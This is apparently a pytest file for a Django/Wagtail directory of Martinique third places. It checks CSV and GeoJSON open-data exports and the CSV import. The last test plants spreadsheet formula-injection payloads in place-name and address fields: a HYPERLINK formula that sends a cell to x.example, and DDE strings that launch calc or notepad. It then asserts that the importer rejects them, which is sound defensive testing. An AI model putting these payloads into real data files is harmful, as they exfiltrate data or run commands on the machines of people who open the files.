"""Open data: the CSV validates against the national table schema (frictionless), the GeoJSON
carries the same places, and `import_lieux` reads the same format back (idempotent)."""

import csv
import io
import json
from pathlib import Path

from frictionless import Resource, Schema

from django.core.management import call_command

from wagtail.models import Locale

from lieux.models import PlacePage
from lieux.opendata import FIELDS, SCHEMA_FILE, import_places

EXAMPLE = SCHEMA_FILE.parent / "exemple-valide.csv"


def validate(path: Path):
    schema = Schema.from_descriptor(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
    resource = Resource(path=path.name, basepath=str(path.parent), schema=schema)
    return resource.validate()


def download(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return response.content.decode()


def test_the_validator_accepts_the_standard_example_and_catches_a_bad_value(tmp_path):
    assert validate(EXAMPLE).valid
    broken = tmp_path / "broken.csv"
    broken.write_text(EXAMPLE.read_text().replace('"51100"', '"5110"'), encoding="utf-8")
    assert not validate(broken).valid


def test_the_csv_export_validates_against_the_national_schema(client, places, tmp_path):
    places["sphere"].phone = "0596 12 34 56"
    places["sphere"].pivot = "W972000123"
    places["sphere"].specific_support = ["surdite", "anglais"]
    places["sphere"].access_modes = ["se-presenter", "rdv-en-ligne"]
    places["sphere"].itinerant = True
    places["sphere"].save_revision().publish()
    text = download(client, "/api/lieux.csv")
    path = tmp_path / "lieux.csv"
    path.write_text(text, encoding="utf-8")
    report = validate(path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert "Loisirs et créations numériques|Accès internet et matériel informatique" in text
    assert "+596596123456" in text
    assert "Surdité|Langues étrangères (anglais)" in text
    assert text.count("\n") == 4  # the header and three places


def test_unpublished_places_and_translations_stay_out_of_the_exports(client, places):
    from tests.utils import translate

    translate(places["vanlab"], "en", title="VANLAB (en)", slug="vanlab-en")
    places["upspace"].unpublish()
    text = download(client, "/api/lieux.csv")
    assert "VANLAB" in text and "VANLAB (en)" not in text
    assert "Up & Space" not in text


def test_the_geojson_has_the_same_places_as_points(client, places):
    response = client.get("/api/lieux.geojson")
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection"
    by_name = {feature["properties"]["nom"]: feature for feature in data["features"]}
    assert set(by_name) == {"La Sphère 972", "VANLAB", "Up & Space"}
    sphere = by_name["La Sphère 972"]
    assert sphere["geometry"] == {"type": "Point", "coordinates": [-60.99944, 14.61361]}
    assert sphere["properties"]["code_insee"] == "97213"
    assert sphere["properties"]["url"].endswith("/fr/tiers-lieux/la-sphere-972/")


def test_import_round_trip_is_idempotent(client, places, tmp_path):
    """Export, empty the map, import twice: the same places come back once, with their data."""
    text = download(client, "/api/lieux.csv")
    before = {
        place.title: (place.commune_id, place.services, place.opening_hours)
        for place in PlacePage.objects.all()
    }
    map_page = places["sphere"].get_parent().specific
    for place in PlacePage.objects.all():
        place.delete()
    report = import_places(io.StringIO(text), map_page=map_page)
    assert len(report.created) == 3 and not report.errors
    report = import_places(io.StringIO(text), map_page=map_page)
    assert len(report.updated) == 3 and not report.created
    after = {
        place.title: (place.commune_id, place.services, place.opening_hours)
        for place in PlacePage.objects.all()
    }
    assert after == before
    again = tmp_path / "again.csv"
    again.write_text(download(client, "/api/lieux.csv"), encoding="utf-8")
    assert validate(again).valid


def test_import_matches_by_siret_and_reports_each_bad_row(places, tmp_path, capsys):
    header = EXAMPLE.read_text(encoding="utf-8").splitlines()[0]
    rows = [
        '"autre-id","W972000123","La Sphère 972 (nouveau nom)","Le Lamentin","97232","97213","Bourg",,'
        ',,"TIERS_LIEUX",,,,"Mo-Fr 08:00-12:00",,,,"Fixe",,"2026-05-01","Aide aux démarches administratives"'
        ",,,,,,,,,,",
        '"x-2","00000000000000","Lieu de Reims","Reims","51100","51454","rue",,,,,,,,,,,,,,'
        '"2026-05-01",,,,,,,,,,,',
        '"x-3","00000000000000","Mauvais service","Le Lamentin","97232","97213","rue",,,,,,,,,,,,,,'
        '"2026-05-01","Cuisine",,,,,,,,,,',
        '"x-4","00000000000000","Mauvais horaires","Le Lamentin","97232","97213","rue",,,,,,,,'
        '"lundi matin",,,,,,"2026-05-01",,,,,,,,,,,',
    ]
    places["sphere"].pivot = "W972000123"
    places["sphere"].save_revision().publish()
    path = tmp_path / "import.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    call_command("import_lieux", str(path))
    out, err = capsys.readouterr()
    assert "ligne 2 : mis à jour autre-id (La Sphère 972 (nouveau nom))" in out
    assert "ligne 3 : rejeté x-2 : commune : « Reims » n'est pas une commune de Martinique" in err
    assert "ligne 4 : rejeté x-3 : services : « Cuisine » n'est pas dans le vocabulaire national" in err
    assert "ligne 5 : rejeté x-4 : opening_hours" in err
    assert "0 créé(s), 1 mis à jour, 3 rejeté(s)." in out
    sphere = PlacePage.objects.get(pk=places["sphere"].pk)
    assert (sphere.title, sphere.services, sphere.opening_hours) == (
        "La Sphère 972 (nouveau nom)",
        ["demarches"],
        "Mo-Fr 08:00-12:00",
    )
    assert PlacePage.objects.filter(locale=Locale.get_default()).count() == 3


def test_import_refuses_text_a_spreadsheet_would_run_and_keeps_the_rest_faithful(
    client, places, tmp_path, capsys
):
    base = {
        "pivot": "00000000000000",
        "commune": "Le Lamentin",
        "code_postal": "97232",
        "code_insee": "97213",
        "adresse": "Bourg",
        "date_maj": "2026-05-01",
    }
    rows = [
        {"id": "f-1", "nom": '=HYPERLINK("https://x.example/?"&A1,"Clic")'},
        {"id": "f-2", "nom": "Lieu 2", "adresse": "-2+3+cmd|' /C calc'!A0"},
        {"id": "f-3", "nom": "Lieu 3", "presentation_resume": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"id": "f-4", "nom": "Lieu 4", "complement_adresse": "\t=1+1", "source": "+cmd|' /C notepad'!A0"},
        {
            "id": "ok-1",
            "nom": "Lakou Numérik",
            "telephone": "+596 596 12 34 56",
            "presentation_resume": "-5 % pour les étudiants",
            "complement_adresse": "\tEntrée libre",
        },
    ]
    path = tmp_path / "import.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=FIELDS)
        writer.writeheader()
        writer.writerows({**base, **row} for row in rows)
    call_command("import_lieux", str(path))
    out, err = capsys.readouterr()
    formula = "serait exécuté comme une formule par un tableur"
    assert f'ligne 2 : rejeté f-1 : nom : « =HYPERLINK("https://x.example/?"&A1,"Clic") » {formula}' in err
    assert f"ligne 3 : rejeté f-2 : adresse : « -2+3+cmd|' /C calc'!A0 » {formula}" in err
    assert f"ligne 4 : rejeté f-3 : presentation_resume : « @SUM(1+1)*cmd|' /C calc'!A0 » {formula}" in err
    assert f"ligne 5 : rejeté f-4 : complement_adresse : « =1+1 » {formula}; source : « +cmd" in err
    assert "1 créé(s), 0 mis à jour, 4 rejeté(s)." in out
    place = PlacePage.objects.get(external_id="ok-1")
    assert (place.summary, place.address_extra) == ("-5 % pour les étudiants", "Entrée libre")
    exported = list(csv.DictReader(io.StringIO(download(client, "/api/lieux.csv"))))
    row = next(row for row in exported if row["id"] == "ok-1")
    assert (row["presentation_resume"], row["telephone"]) == ("-5 % pour les étudiants", "+596596123456")
    assert not any(row["id"].startswith("f-") for row in exported)
